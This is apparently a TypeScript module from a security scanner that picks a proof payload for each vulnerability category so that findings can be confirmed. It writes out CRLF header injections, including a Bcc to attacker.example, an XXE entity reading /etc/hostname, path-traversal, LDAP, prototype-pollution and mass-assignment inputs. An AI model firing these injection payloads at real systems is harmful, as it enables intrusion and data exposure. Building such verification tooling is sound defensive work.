/**
 * For each category the input that would prove the flaw, fitted to the string it lands in. All payloads are
 * harmless: they show that the input is obeyed and change nothing.
 */
import type { Candidate } from '../results/candidate.ts';
import { path, redirect, serverRequest } from './address-payloads.ts';
import { code, command, nosql, sql, template, workflow, xpath } from './injection-payloads.ts';
import { markup } from './markup-payloads.ts';
import { type Fitting, type Payload, supports, weakens } from './payload.ts';
import { isMail } from './payload-dialects.ts';
import { stringContext } from './string-context.ts';

const header: Fitting = (_context, { sinkApi }) =>
  isMail.test(sinkApi)
    ? supports('x\r\nBcc: someone@attacker.example', 'inside a header of the mail')
    : supports('x\r\nSet-Cookie: injected=1', 'inside a header');

/** The checker of regular expressions has made the text already. */
const regex: Fitting = (context, { details }) => {
  const attack = { value: '', expression: details.attack ?? "''" };
  // Fixed text before it may already fail to match, and then nothing is tried.
  return context !== null && context.before !== ''
    ? { ...weakens('', 'after fixed text of what the regular expression is matched against'), ...attack }
    : { ...supports('', 'as the text that the regular expression is matched against'), ...attack };
};

const fixed =
  (value: string, where: string, extra: Partial<Payload> = {}): Fitting =>
  () => ({ ...supports(value, where), ...extra });

/** By category slug. A category that is not here has no payload (weak algorithms, configuration, secrets). */
const fittings: Readonly<Record<string, Fitting>> = {
  'sql-injection': sql,
  'command-injection': command,
  'code-injection': code,
  'workflow-injection': workflow,
  'path-traversal': path,
  'file-inclusion': path,
  'archive-slip': fixed('../../../../tmp/outside.txt', 'as the name of an archive entry'),
  ssrf: serverRequest,
  'open-redirect': redirect,
  xss: markup,
  'reflected-xss': markup,
  'stored-xss': markup,
  'dom-xss': markup,
  'template-injection': template,
  'xpath-injection': xpath,
  'nosql-injection': nosql,
  'ldap-injection': fixed('*)(objectClass=*', 'inside the filter'),
  'log-injection': fixed('ok\nERROR forged entry', 'inside a log line'),
  'header-injection': header,
  xxe: fixed('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>', 'as the document', {
    bodyType: 'application/xml',
  }),
  'prototype-pollution': fixed('{"__proto__":{"polluted":true}}', 'as the object that is merged', {
    isJson: true,
  }),
  redos: regex,
  'slow-regex': regex,
  'mass-assignment': fixed('{"isAdmin":true}', 'as fields of the object', { isJson: true }),
};

/** The payload of this candidate, or null when its category has none or it has no flow. */
export function fitPayload(candidate: Candidate, category: string): (Payload & { isJudged: boolean }) | null {
  if (!candidate.source || !Object.hasOwn(fittings, category)) return null;
  const fitting = fittings[category];
  if (!fitting) return null;
  const context = stringContext(candidate.shape);
  return { ...fitting(context, candidate), isJudged: context !== null };
}
